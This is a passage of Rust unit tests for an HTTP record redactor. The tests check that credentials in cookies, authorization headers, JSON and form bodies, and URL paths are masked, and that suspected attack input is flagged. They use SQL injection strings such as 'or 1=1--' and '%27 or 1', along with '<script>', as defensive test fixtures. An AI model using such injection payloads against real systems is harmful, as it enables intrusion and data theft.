                "cookie",
                format!("session={TOKEN}; q={SQLI};theme=dark ; bare;e=").into_bytes(),
            ),
            (
                "set-cookie",
                format!("id={SQLI}; Path=/; HttpOnly").into_bytes(),
            ),
            ("Set-Cookie", format!("sid={TOKEN}; Secure").into_bytes()),
        ]);
        let marks = r.headers(&mut list);
        assert_eq!(
            text(list.get_index(0).unwrap().1),
            format!("session={}; q={SQLI};theme=dark ; bare;e=", m(TOKEN))
        );
        assert_eq!(
            text(list.get_index(1).unwrap().1),
            format!("id={SQLI}; Path=/; HttpOnly")
        );
        assert_eq!(
            text(list.get_index(2).unwrap().1),
            format!("sid={}; Secure", m(TOKEN))
        );
        let seen: Vec<(u32, &str)> = marks
            .iter()
            .map(|(i, span)| (*i, at(list.get_index(*i as usize).unwrap().1, *span)))
            .collect();
        assert_eq!(seen, [(0, SQLI), (0, "dark"), (0, "bare"), (1, SQLI)]);
    }

    #[test]
    fn authorization_keeps_a_token_from_the_node_but_not_an_attack() {
        let r = node();
        let jwt = CREDENTIALS[1];
        let mut list: HeaderList = [
            ("authorization", format!("Bearer {jwt}")),
            ("authorization", format!("Bearer {SQLI}")),
            ("proxy-authorization", "Basic dXNlcjpwYXNz".to_owned()),
            ("x-api-key", CREDENTIALS[2].to_owned()),
            ("x-api-key", "<script>".to_owned()),
            ("authorization", SQLI.to_owned()),
        ]
        .iter()
        .map(|(n, v)| (n.to_string(), v.as_bytes().to_vec()))
        .collect();
        let marks = r.headers(&mut list);
        assert_eq!(
            text(list.get_index(0).unwrap().1),
            format!("Bearer {}", m(jwt))
        );
        assert_eq!(text(list.get_index(1).unwrap().1), format!("Bearer {SQLI}"));
        assert_eq!(
            text(list.get_index(2).unwrap().1),
            format!("Basic {}", m("dXNlcjpwYXNz"))
        );
        assert_eq!(text(list.get_index(3).unwrap().1), m(CREDENTIALS[2]));
        assert_eq!(text(list.get_index(4).unwrap().1), "<script>");
        // Without a scheme, what follows the first space is judged (here `or 1=1--`).
        assert_eq!(
            marks,
            [(1, (7, 7 + SQLI.len() as u32)), (4, (0, 8)), (5, (2, 10))]
        );
    }

    #[test]
    fn node_mode_bodies_and_paths_carry_spans_of_what_stays() {
        let r = node();
        let body = format!(
            r#"{{"user":"ann","password":"{SQLI}","token":"{TOKEN}","secret":"<b>","api_key":{{"k":"v"}},"refresh_token":42}}"#
        );
        let mut spans = Vec::new();
        let out = r.body(BodyKind::Json, body.as_bytes(), &mut spans);
        assert_eq!(
            text(&out),
            format!(
                r#"{{"user":"ann","password":"{}","token":"{}","secret":"<b>","api_key":"{}","refresh_token":42}}"#,
                m(SQLI),
                m(TOKEN),
                m(r#"{"k":"v"}"#)
            )
        );
        let seen: Vec<&str> = spans.iter().map(|s| at(&out, *s)).collect();
        assert_eq!(seen, ["<b>", "42"]);
        // The same bytes and spans whatever the chunks.
        for step in 1..body.len() {
            let (mut all, mut got) = (Vec::new(), Vec::new());
            let mut s = r.body_stream(BodyKind::Json);
            for chunk in body.as_bytes().chunks(step) {
                let base = all.len() as u32;
                let mut piece = Vec::new();
                s.push(&r, chunk, &mut piece);
                got.extend(
                    s.take_spans()
                        .into_iter()
                        .map(|(a, b)| (a + base, b + base)),
                );
                all.extend(piece);
            }
            let mut piece = Vec::new();
            s.finish(&r, &mut piece);
            assert!(s.take_spans().is_empty());
            all.extend(piece);
            assert_eq!((&all, &got), (&out, &spans), "chunks of {step}");
        }
        let form = format!("user=ann&token={SQLI}&passwd=x1&api_key={TOKEN}&secret=a%27b");
        let mut spans = Vec::new();
        let out = r.body(BodyKind::Form, form.as_bytes(), &mut spans);
        assert_eq!(
            text(&out),
            format!(
                "user=ann&token={SQLI}&passwd={}&api_key={}&secret=a%27b",
                m("x1"),
                m(TOKEN)
            )
        );
        let seen: Vec<&str> = spans.iter().map(|s| at(&out, *s)).collect();
        assert_eq!(seen, [SQLI, "a%27b"]);
        let mut spans = Vec::new();
        let path = "/cb?q=1&token=%27%20or%201&access_token=ya29.a0AfH6SMBx3Jk9fW2s-Lq1";
        let out = r.path(path, &mut spans).unwrap();
        assert_eq!(
            out,
            format!(
                "/cb?q=1&token=%27%20or%201&access_token={}",
                m(CREDENTIALS[7])
            )
        );
        assert_eq!(spans, [(14, 26)]);
        assert_eq!(at(out.as_bytes(), spans[0]), "%27%20or%201");
        // Unchanged path, a value in clear: no new path, its span in the one given.
        let mut spans = Vec::new();
        assert_eq!(r.path("/p?token=<x>", &mut spans), None);
        assert_eq!(spans, [(9, 12)]);
    }

    #[test]
    fn a_record_lists_its_marks_by_place() {
        let r = node();
        let mut headers = HeaderList::from(vec![
            ("content-type", b"application/json".to_vec()),
            ("cookie", format!("a={SQLI}").into_bytes()),
        ]);
        let mut trailers = HeaderList::from(vec![("x-api-key", b"<x>")]);
        let body = format!(r#"{{"token":"{SQLI}"}}"#);
        let mut capture = BodyCapture::new(1024);
        capture.add(body.len(), body.as_bytes());
        let marks = r.record(&mut headers, &mut trailers, &mut capture);
        let l = SQLI.len() as u32;
        assert_eq!(
            marks,
            [
                Mark {
                    place: Place::Body,
                    index: 0,
                    span: (10, 10 + l)
                },
                Mark {
                    place: Place::Headers,
                    index: 1,
                    span: (2, 2 + l)
                },
                Mark {
                    place: Place::Trailers,
                    index: 0,
                    span: (0, 3)
                },
            ]
        );
        assert_eq!(capture.bytes(), body.as_bytes());
    }
}
